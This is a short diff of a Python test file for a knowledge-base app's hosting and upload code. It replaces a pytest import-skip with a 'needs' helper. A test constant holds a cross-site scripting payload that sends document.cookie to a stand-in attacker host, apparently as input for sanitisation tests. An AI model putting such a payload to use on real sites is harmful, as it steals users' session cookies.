@@ -15,9 +15,10 @@ from browser import served
 from kb.app.hosting.tokens import Tokens
 from kb.app.hosting.uploads import file_name
 from kb.ingest.errors import InputError
+from needs import needs
 
 httpx = pytest.importorskip("httpx", reason="httpx is not installed")
-pytest.importorskip("gradio", reason="the ui extra is not installed")
+needs("gradio", extra="ui")
 
 SCRIPT = "<script>fetch('http://evil.example/?' + document.cookie)</script>"
 
